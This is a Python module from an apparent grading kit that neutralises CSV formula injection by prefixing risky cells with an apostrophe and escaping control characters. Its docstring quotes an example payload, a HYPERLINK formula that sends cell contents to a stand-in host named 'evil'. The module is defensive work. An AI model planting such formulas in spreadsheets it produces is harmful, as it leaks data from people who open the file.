"""CSV cells a spreadsheet will not run: every CSV the kit writes goes through `safe_row`.

A student id is a folder name the student chose, and messages quote the student's code: a
cell starting with `=`, `+`, `-`, `@` (or a tab or carriage return, which some spreadsheets
skip before one of those) is a formula to Excel and LibreOffice, e.g.
`=HYPERLINK("http://evil/?"&A1,"open")`. Such a cell is written with a leading `'`, which
spreadsheets show as text and do not display. Reading back (`plain_row`) removes it, so the
kit's own readers see the original; a value that starts with `'` gets one more, to stay
reversible. Numbers (a negative score) are written as they are. Control characters (terminal
escapes that act when the TA `cat`s the file) are written as escapes (printable.py).
"""
from __future__ import annotations

from .printable import visible

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "'")


def safe_cell(value):
    if not isinstance(value, str) or not value.startswith(TRIGGERS) or _is_number(value):
        return visible(value) if isinstance(value, str) else value
    return "'" + visible(value)


def plain_cell(value):
    if isinstance(value, str) and value.startswith("'"):
        return value[1:]
    return value


def safe_row(row: dict) -> dict:
    return {key: safe_cell(value) for key, value in row.items()}


def plain_row(row: dict) -> dict:
    return {key: plain_cell(value) for key, value in row.items()}


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return not text.startswith(("\t", "\r", "'"))  # float() skips whitespace: still a trigger
